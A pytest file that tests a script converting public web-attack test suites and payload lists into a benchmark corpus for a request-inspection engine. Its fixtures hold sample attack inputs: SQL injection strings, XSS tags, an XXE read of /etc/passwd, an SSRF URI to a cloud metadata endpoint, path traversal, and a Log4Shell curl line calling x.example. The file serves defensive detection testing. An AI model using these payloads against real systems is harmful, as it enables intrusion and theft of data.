"""benchmarks/fetch_corpora.py on small archives laid out as the pinned repositories are.

No network: each source's archive is built here (a few files of the real layout) and served
through a ``file://`` URL template; the script fetches it into its cache, converts it, and
writes corpus rows that the project's detection benchmark reads and the engine judges.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import sys
import tarfile
import textwrap
import zipfile
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "benchmarks"))

import fetch_corpora as fc

pytest.importorskip("yaml", reason="PyYAML converts the CRS tests")

CRS_942 = textwrap.dedent(
    """
    rule_id: 942100
    tests:
      - test_id: 1
        stages:
          - input:
              method: GET
              uri: "/?id=1%27%20or%201%3D1--"
              headers: {Host: localhost, User-Agent: OWASP CRS test agent}
            output:
              log: {expect_ids: [942100]}
      - test_id: 2
        stages:
          - input:
              method: POST
              uri: /
              headers: {Host: localhost, Content-Type: application/x-www-form-urlencoded}
              data: ["a=1", "b=' union select 1--"]
            output:
              log: {expect_ids: [942100]}
      - test_id: 3
        stages:
          - input: {method: GET, uri: "/?q=select+specialty+hospital", headers: {Host: localhost}}
            output:
              log: {no_expect_ids: [942100]}
      - test_id: 4
        stages:
          - input:
              encoded_request: "ENCODED"
            output:
              log: {expect_ids: [942100]}
    """
).replace(
    "ENCODED",
    base64.b64encode(
        b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        b"user=admin'--"
    ).decode(),
)

CRS_934 = textwrap.dedent(
    """
    rule_id: 934110
    tests:
      - test_id: 1
        stages:
          - input: {method: GET, uri: "/?u=http://169.254.169.254/latest/meta-data/", headers: {Host: x}}
            output: {log: {expect_ids: [934110]}}
    """
)


def _tar(path: Path, top: str, files: dict[str, bytes]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


def _csic_zip() -> bytes:
    traffic = (
        "GET http://localhost:8080/tienda1/index.jsp HTTP/1.1\n"
        "User-Agent: Mozilla/5.0 (compatible; Konqueror/3.5; Linux)\nHost: localhost:8080\n\n\n"
        "POST http://localhost:8080/tienda1/publico/anadir.jsp HTTP/1.1\n"
        "Host: localhost:8080\nContent-Type: application/x-www-form-urlencoded\nContent-Length: 99\n\n"
        "id=2&nombre=Jam%F3n+Ib%E9rico&precio=85&cantidad=49&B1=A%F1adir+al+carrito\n\n"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("normalTrafficTraining.txt.gz", gzip.compress(traffic.encode("latin-1")))
        zf.writestr("anomalousTrafficTest.txt.gz", gzip.compress(b"GET /ignored HTTP/1.1\n\n"))
    return out.getvalue()


@pytest.fixture(scope="module")
def mirror(tmp_path_factory: pytest.TempPathFactory) -> str:
    root = tmp_path_factory.mktemp("mirror")
    layouts: dict[str, dict[str, bytes]] = {
        "crs": {
            "tests/regression/tests/REQUEST-942-APPLICATION-ATTACK-SQLI/942100.yaml": CRS_942.encode(),
            "tests/regression/tests/REQUEST-934-APPLICATION-ATTACK-GENERIC/934110.yaml": CRS_934.encode(),
            "rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf": b"# not a test",
        },
        "pat": {
            "SQL Injection/Intruder/Auth_Bypass.txt": b"# comment\n' or 1=1--\nadmin'--\n' or 1=1--\n",
            "XSS Injection/Intruders/xss.txt": b"<script>alert(1)</script>\n<svg onload=alert(1)>\n",
            "File Inclusion/Intruders/php-filter-iconv.txt": b"php://filter/convert.base64-encode/resource=x\n",
            "XXE Injection/Intruders/xxe.txt": (
                b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>\n'
            ),
            "Server Side Request Forgery/README.md": b"text\n```\nhttp://127.0.0.1:80\nnot a url\n```\n",
            "CVE Exploits/Log4Shell.md": b"```\ncurl -H 'X: ${jndi:ldap://x.example/a}'\n```\n",
            "SQL Injection/README.md": b"' or 1=1 -- (markdown, not a list)\n",
        },
        "httpparams": {
            "payload_full.csv": (
                "payload,length,attack_type,label\n"
                "shirt,5,norm,norm\n"
                "1' union select password from users--,38,sqli,anom\n"
                "../../etc/passwd,16,path-traversal,anom\n"
                "caf\u00e9 cr\u00e8me,11,norm,norm\n"
            ).encode(),
        },
        "csic": {"csic_dataset.zip": _csic_zip()},
    }
    for source, files in layouts.items():
        repo, commit = fc.SOURCES[source]
        _tar(root / repo / f"{commit}.tar.gz", f"{repo.split('/')[1]}-{commit}", files)
    return f"file://{root}/{{repo}}/{{commit}}.tar.gz"


def _rows(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.fixture(scope="module")
def converted(mirror: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, Any]]]:
    cache = tmp_path_factory.mktemp("cache")
    assert fc.main(["--cache", str(cache), "--half", "all", "--base-url", mirror]) == 0
    return {s: _rows(cache / "all" / f"{s}.jsonl") for s in fc.SOURCES}


def test_rows_have_the_corpus_format(converted: dict[str, list[dict[str, Any]]]) -> None:
    keys = {"id", "source", "category", "expect", "method", "uri", "headers", "body", "body_b64"}
    for source, rows in converted.items():
        assert rows, source
        for r in rows:
            assert set(r) == keys
            assert r["source"] == source
            assert r["expect"] == ("benign" if r["category"] == "benign" else "attack")
            assert all(len(h) == 2 for h in r["headers"])
    ids = [r["id"] for rows in converted.values() for r in rows]
    assert len(ids) == len(set(ids))


def test_crs_tests_become_attack_rows(converted: dict[str, list[dict[str, Any]]]) -> None:
    rows = {r["id"]: r for r in converted["crs"]}
    assert set(rows) == {"crs-942100-1-s1", "crs-942100-2-s1", "crs-942100-4-s1", "crs-934110-1-s1"}
    assert rows["crs-942100-1-s1"]["category"] == "sqli"
    assert rows["crs-934110-1-s1"]["category"] == "ssrf"  # 934 by rule, not by file
    form = rows["crs-942100-2-s1"]
    assert form["body"] == "a=1\r\nb=' union select 1--"  # a list of data lines, CRLF-joined
    assert ["Content-Length", str(len(form["body"]))] in form["headers"]  # as go-ftw adds it
    raw = rows["crs-942100-4-s1"]  # encoded_request: request line, headers, body
    assert (raw["method"], raw["uri"], raw["body"]) == ("POST", "/login", "user=admin'--")


def test_payload_lists_are_wrapped_in_turn(converted: dict[str, list[dict[str, Any]]]) -> None:
    pat = converted["pat"]
    cats = {r["category"] for r in pat}
    assert cats == {"sqli", "xss", "php", "xxe", "ssrf", "log4shell"}
    sqli = sorted((r for r in pat if r["category"] == "sqli"), key=lambda r: r["id"])
    assert len(sqli) == 2  # the comment line skipped, the duplicate dropped, README not a list
    assert (sqli[0]["method"], sqli[0]["uri"]) == ("GET", "/search?q=%27+or+1%3D1--")
    assert (sqli[1]["method"], sqli[1]["uri"], sqli[1]["body"]) == ("POST", "/submit", "q=admin%27--")
    xxe = next(r for r in pat if r["category"] == "xxe")
    assert xxe["uri"] == "/api/xml" and xxe["body"].startswith("<?xml")
    assert next(r for r in pat if r["category"] == "ssrf")["uri"] == "/search?q=http%3A%2F%2F127.0.0.1%3A80"
    assert "jndi" in next(r for r in pat if r["category"] == "log4shell")["uri"]
    # Every tenth payload is a JSON body.
    rows = [fc.wrap("t", f"t-{n}", "sqli", "x'", n) for n in range(10)]
    assert rows[9]["uri"] == "/api/submit" and json.loads(rows[9]["body"]) == {"q": "x'"}


def test_params_and_csic(converted: dict[str, list[dict[str, Any]]]) -> None:
    params = converted["httpparams"]
    assert sorted(r["category"] for r in params) == ["benign", "benign", "sqli", "traversal"]
    cafe = next(r for r in params if "caf" in r["uri"] + r["body"])
    assert "caf%C3%A9" in cafe["uri"] + cafe["body"]
    csic = converted["csic"]
    assert [r["method"] for r in csic] == ["GET", "POST"]  # anomalous traffic not converted
    post = csic[1]
    assert post["uri"] == "http://localhost:8080/tienda1/publico/anadir.jsp"
    assert post["body"].startswith("id=2&nombre=Jam%F3n")
    assert ["Content-Length", str(len(post["body"]))] in post["headers"]  # the carried body's


def test_halves_split_by_rule_and_partition_the_rows(mirror: str, tmp_path: Path) -> None:
    for half in ("dev", "holdout", "all"):
        assert fc.main(["--cache", str(tmp_path), "--half", half, "--base-url", mirror]) == 0
    for source in fc.SOURCES:
        dev = {r["id"] for r in _rows(tmp_path / "dev" / f"{source}.jsonl")}
        hold = {r["id"] for r in _rows(tmp_path / "holdout" / f"{source}.jsonl")}
        every = {r["id"] for r in _rows(tmp_path / "all" / f"{source}.jsonl")}
        assert not dev & hold and dev | hold == every
    # All tests of one rule on one side: the side of the rule id.
    for half in ("dev", "holdout"):
        for r in _rows(tmp_path / half / "crs.jsonl"):
            assert fc.half_of("crs", r["id"].split("-")[1]) == half


def test_archives_are_cached(mirror: str, tmp_path: Path) -> None:
    assert fc.main(["--cache", str(tmp_path), "--sources", "pat", "--base-url", mirror]) == 0
    # A second run needs no source at all: the archive is in the cache.
    assert fc.main(["--cache", str(tmp_path), "--sources", "pat", "--base-url", "file:///nonexistent"]) == 0
    assert (
        fc.main(["--cache", str(tmp_path / "x"), "--sources", "pat", "--base-url", "file:///nonexistent"])
        == 1
    )


def test_the_engine_judges_the_converted_rows(converted: dict[str, list[dict[str, Any]]]) -> None:
    from detection import request_of

    from devsecmw.engine import Engine

    engine = Engine()
    found = {}
    for r in converted["crs"] + converted["httpparams"]:
        req = request_of(r)
        types = {s.type for phase in ("head", "body") for s in engine.inspect(req, phase)}
        found[r["id"]] = (r["category"], types)
    assert all(cat in types or cat == "benign" for cat, types in found.values() if cat == "sqli")
    assert all(not ({"sqli", "xss", "cmdi"} & types) for cat, types in found.values() if cat == "benign")
